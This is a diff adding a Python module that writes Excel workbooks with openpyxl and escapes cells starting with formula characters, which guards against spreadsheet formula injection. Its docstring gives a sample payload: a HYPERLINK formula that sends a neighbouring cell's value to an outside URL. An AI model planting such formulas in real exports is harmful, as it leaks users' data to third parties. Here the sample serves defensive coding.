@@ -1,0 +1,137 @@
+"""Writing Excel workbooks that open safely and that Desk reads back unchanged.
+
+- Text stays text: a cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return
+  would be a formula in Excel (a name typed as `=HYPERLINK("http://...?d="&D2,"Klik")` becomes a
+  live link that sends the neighbouring cell away). Such cells are written as text cells with
+  Excel's "quote prefix" style, so Excel shows them as typed, editing them keeps them text, and
+  Desk imports its own export unchanged.
+- Numbers and dates are real numbers and dates (with a date format), so a spreadsheet can sum
+  and sort them.
+- Each sheet: bold heading row, frozen under the heading (or where asked), an autofilter over
+  the data, column widths, wrapped text where a column asks for it.
+- Rows stream through openpyxl's write-only mode, so a recap of a million requests does not hold
+  a million cells in memory.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
+from datetime import date, datetime, time
+from typing import Any, BinaryIO
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+DATE_FORMAT = "DD-MM-YYYY"
+DATETIME_FORMAT = "DD-MM-YYYY HH:MM"
+HEADING_FILL = "DDEBF7"
+# What the file format cannot hold at all (openpyxl refuses these; old rows may still carry them).
+_ILLEGAL = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")
+
+
+@dataclass(frozen=True, slots=True)
+class Column:
+    heading: str
+    width: float = 15
+    number_format: str = ""  # for numbers; dates get DATE_FORMAT unless told otherwise
+    wrap: bool = False  # multi-line text: wrapped and aligned to the top
+
+
+@dataclass(frozen=True, slots=True)
+class Sheet:
+    title: str
+    columns: Sequence[Column]
+    rows: Iterable[Sequence[object]]
+    freeze: str | None = "A2"  # the first cell that scrolls; None: nothing frozen
+    autofilter: bool = True
+    heading_style: bool = True  # bold on a light blue fill; False: bold only (a sheet of notes)
+
+
+def is_formula_like(text: str) -> bool:
+    return text.startswith(FORMULA_STARTS)
+
+
+def write_xlsx(sheets: Sequence[Sheet], target: BinaryIO | None = None) -> bytes:
+    """Write the workbook to `target` (a binary file), or return its bytes."""
+    from openpyxl import Workbook
+
+    book = Workbook(write_only=True)
+    for sheet in sheets:
+        _write_sheet(book, sheet)
+    if target is not None:
+        book.save(target)
+        return b""
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def _write_sheet(book: Any, sheet: Sheet) -> None:
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.styles import Alignment, Font, PatternFill
+    from openpyxl.utils import get_column_letter
+
+    ws = book.create_sheet(sheet.title[:31])  # Excel's limit for a sheet name
+    for index, column in enumerate(sheet.columns, start=1):
+        ws.column_dimensions[get_column_letter(index)].width = column.width
+    if sheet.freeze:
+        ws.freeze_panes = sheet.freeze  # must precede the first row: write-only sheets write their view first
+    bold = Font(bold=True)
+    fill = PatternFill("solid", fgColor=HEADING_FILL) if sheet.heading_style else None
+    wrap = Alignment(wrap_text=True, vertical="top")
+    heading = []
+    for column in sheet.columns:
+        cell = WriteOnlyCell(ws, value=_safe_text(column.heading))
+        cell.font = bold
+        if fill is not None:
+            cell.fill, cell.alignment = fill, wrap
+        elif column.wrap:
+            cell.alignment = wrap
+        heading.append(cell)
+    ws.append(heading)
+    count = 0
+    for values in sheet.rows:
+        ws.append([_cell(ws, WriteOnlyCell, value, column, wrap)
+                   for value, column in zip(values, _padded(sheet.columns, len(values)), strict=False)])
+        count += 1
+    if sheet.autofilter and sheet.columns:
+        ws.auto_filter.ref = f"A1:{get_column_letter(len(sheet.columns))}{count + 1}"
+
+
+def _padded(columns: Sequence[Column], width: int) -> Sequence[Column]:
+    return columns if len(columns) >= width else [*columns, *[Column("")] * (width - len(columns))]
+
+
+def _safe_text(value: str) -> str:
+    return _ILLEGAL.sub("", value)
+
+
+def _cell(ws: Any, make: Any, value: object, column: Column, wrap: Any) -> Any:
+    if value is None:
+        return None
+    if isinstance(value, str):
+        text = _safe_text(value)
+        if not is_formula_like(text) and not column.wrap:
+            return text
+        cell = make(ws, value=text)
+        if is_formula_like(text):
+            cell.data_type = "s"  # openpyxl made it a formula on assignment
+            cell.quotePrefix = True
+        if column.wrap:
+            cell.alignment = wrap
+        return cell
+    if isinstance(value, datetime | time) and value.tzinfo is not None:
+        raise ValueError("Excel has no time zones: pass the local time the sheet should show")
+    if isinstance(value, datetime | date | time) or column.number_format or column.wrap:
+        cell = make(ws, value=value)
+        if isinstance(value, datetime):
+            cell.number_format = column.number_format or DATETIME_FORMAT
+        elif isinstance(value, date):
+            cell.number_format = column.number_format or DATE_FORMAT
+        elif column.number_format:
+            cell.number_format = column.number_format
+        if column.wrap:
+            cell.alignment = wrap
+        return cell
+    return value
